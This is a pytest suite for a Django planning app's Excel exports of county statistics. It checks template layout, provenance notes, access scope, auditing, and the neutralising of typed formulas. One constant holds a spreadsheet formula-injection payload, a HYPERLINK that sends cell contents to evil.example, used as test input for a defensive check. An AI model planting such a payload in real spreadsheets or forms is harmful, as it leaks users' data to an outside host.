"""The yearly statistics a county sends up (P12, P16) and a period's value table, as .xlsx read back with
python-calamine: the template's rows and columns, numbers as numbers with the unit apart, a 未配置 figure said
so, each figure's provenance in the notes sheet, the scope (a county its own, the prefecture any county or 全州),
the audit row, and no formula anywhere (a typed formula comes out as quoted text)."""

from __future__ import annotations

import io
import re
import zipfile
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from python_calamine import CalamineWorkbook

from tests.factories import division
from tests.planning.builders import COUNTY, OTHER_COUNTY, TOWNSHIP, planning_users
from zhenxing.accounts.models import User
from zhenxing.audit.models import AuditEvent
from zhenxing.common import clock
from zhenxing.common.xlsx import neutralised
from zhenxing.planning import freeze, services, stats
from zhenxing.planning.enums import IndicatorSource, PeriodKind, ReportStatus, ValueState
from zhenxing.planning.models import Indicator, IndicatorValue, Period

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def client_of(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def sheets(content: bytes) -> dict[str, list[list[Any]]]:
    """Every sheet as calamine reads it; fails if any sheet holds a formula."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not re.search(r"<f[ >]", archive.read(name).decode("utf-8")), f"formula in {name}"
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    return {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}


def row_of(rows: list[list[Any]], first: str) -> list[Any]:
    return next(row for row in rows if row and row[0] == first)


def year_2025_with_a_report(users: Any) -> Period:
    """2025 frozen: 南涧's township reported 13 创业致富带头人 (evidence typed as a formula), reviewed up to the
    prefecture; the yearly computed indicators inactive (tested with their selectors), and 返贫人口 frozen 未配置
    as the freeze writes it while the poverty standard is not entered."""
    leaders = Indicator.objects.get(code="entrepreneurship_leaders")
    period = freeze.period_ensure(kind=PeriodKind.YEAR, year=2025, number=0)
    report = services.report_enter(
        actor=users.township, indicator=leaders, period=period, division=division(TOWNSHIP), value=Decimal(13),
        evidence=PAYLOAD,
    )  # fmt: skip
    services.report_move(actor=users.township_colleague, report=report, to=ReportStatus.TOWNSHIP_REVIEWED,
                         opinion="核实无误")  # fmt: skip
    services.report_move(actor=users.county, report=report, to=ReportStatus.COUNTY_REVIEWED, opinion="同意")
    services.report_move(actor=users.prefecture, report=report, to=ReportStatus.ACCEPTED, opinion="确认")
    Indicator.objects.filter(source=IndicatorSource.COMPUTED, period=PeriodKind.YEAR).update(active=False)
    freeze.period_freeze(period=period, actor=users.prefecture)
    returned = Indicator.objects.get(code="returned_people")
    IndicatorValue.objects.create(
        indicator=returned, period=period, division=division(COUNTY), state=ValueState.UNCONFIGURED,
        provenance={"selector": "returned_people", "version": 1, "definition": "返贫人口（P16）",
                    "as_of": clock.now().isoformat(), "figures": {"numerator": "0", "unconfigured": True},
                    "parameters": {}},
        selector_version=1, computed_as_of=clock.now(), recorded_at=clock.now(),
    )  # fmt: skip
    return period


def test_p16_county_stats_xlsx_follows_the_template_with_provenance() -> None:
    # given 2025 frozen with a reported figure and a 未配置 one
    users = planning_users()
    year_2025_with_a_report(users)
    # when the county downloads its yearly statistics
    response = client_of(users.county).get(f"/planning/stats/?year=2025&county={COUNTY}")
    # then sheet 1 is the template's table: headings, numbers as numbers, the unit apart
    assert response.status_code == 200
    book = sheets(response.content)
    table = book[stats.SHEET_NAME]
    assert table[0][0].startswith(division(COUNTY).name)
    assert table[1] == [
        "指标",
        "单位",
        "2020年基期值",
        "2025年目标值",
        "2025年实际值",
        "完成情况",
        "数据来源",
        "数据状态",
    ]
    assert row_of(table, "一、收入与就业")[1:] == [""] * 7
    leaders = row_of(table, "培育创业致富带头人（累计）")
    # (the plan's 5000 is the prefecture's total, not split to 南涧: 未分解, nothing to measure against)
    assert leaders[1] == "人" and leaders[3] == "未分解" and leaders[4] == 13
    assert leaders[5] == "—" and leaders[6] == "部门填报（乡村振兴）" and leaders[7] == "有值"
    income = row_of(table, "脱贫人口人均纯收入")
    assert income[2] == pytest.approx(10737.51) and income[4] == "未冻结"
    returned = row_of(table, "返贫人口")
    assert returned[4] == "未配置" and returned[7] == "未配置"
    assert row_of(table, "创业致富带头人带动就业（累计）")[4] == "未填报"
    # and sheet 2 gives each figure's provenance: who entered, who reviewed, the evidence (quoted), the 口径
    notes = book[stats.NOTES_SHEET]
    texts = [str(cell) for row in notes for cell in row]
    assert any(text.startswith("p_xiang（") for text in texts)
    assert any("州级确认" in text or "p_zhou" in text for text in texts)
    assert neutralised(PAYLOAD) in texts
    assert "返贫人口（P16）" in texts and "所需参数未配置" in texts
    # and the export is audited
    event = AuditEvent.objects.get(action="planning.export")
    assert event.actor == users.county and event.new_values["division"] == COUNTY


def test_p16_stats_scope_a_county_its_own_the_prefecture_any_or_the_total() -> None:
    users = planning_users()
    year_2025_with_a_report(users)
    assert client_of(users.county).get(f"/planning/stats/?year=2025&county={OTHER_COUNTY}").status_code == 404
    own = client_of(users.county).get("/planning/stats/?year=2025")
    assert sheets(own.content)[stats.SHEET_NAME][0][0].startswith(division(COUNTY).name)
    other = client_of(users.prefecture).get(f"/planning/stats/?year=2025&county={OTHER_COUNTY}")
    table = sheets(other.content)[stats.SHEET_NAME]
    assert row_of(table, "培育创业致富带头人（累计）")[4] == "未填报"
    total = client_of(users.prefecture).get("/planning/stats/?year=2025&county=5329")
    # 1 county of 12 reported: no prefecture total (a partial sum would read as 全州's); the plan's 5000 is its target
    total_row = row_of(sheets(total.content)[stats.SHEET_NAME], "培育创业致富带头人（累计）")
    assert total_row[3:5] == [5000, "未填报"]
    # a year not frozen is refused in Chinese
    response = client_of(users.county).get("/planning/stats/?year=2024")
    assert response.status_code == 409 and "尚未冻结" in response.content.decode()


def test_p16_period_value_table_xlsx_in_scope() -> None:
    users = planning_users()
    period = year_2025_with_a_report(users)
    response = client_of(users.county).get(f"/planning/periods/{period.pk}/xlsx/")
    table = sheets(response.content)[stats.SHEET_NAME]
    assert table[1] == ["指标", "单位", division(COUNTY).name, "全州"]
    assert row_of(table, "培育创业致富带头人（累计）")[2:] == [13, "未填报"]
    assert row_of(table, "返贫人口")[2] == "未配置"
    assert AuditEvent.objects.filter(action="planning.export", actor=users.county).exists()
    table = sheets(client_of(users.prefecture).get(f"/planning/periods/{period.pk}/xlsx/").content)[
        stats.SHEET_NAME
    ]
    assert len(table[1]) == 2 + 13


def test_p16_stats_typed_formulas_come_out_as_text() -> None:
    # given an indicator renamed with a formula and a report whose evidence is one
    users = planning_users()
    period = year_2025_with_a_report(users)
    Indicator.objects.filter(code="leaders_driven_people").update(name=PAYLOAD)
    # when both exports are read back
    for content in (
        client_of(users.prefecture).get(f"/planning/stats/?year=2025&county={COUNTY}").content,
        client_of(users.prefecture).get(f"/planning/periods/{period.pk}/xlsx/").content,
    ):
        texts = [
            cell for rows in sheets(content).values() for row in rows for cell in row if isinstance(cell, str)
        ]
        # then the formula is quoted text and nothing a spreadsheet would run is left
        assert neutralised(PAYLOAD) in texts
        assert not [text for text in texts if text.startswith(("=", "+", "-", "@", "\t", "\r"))]
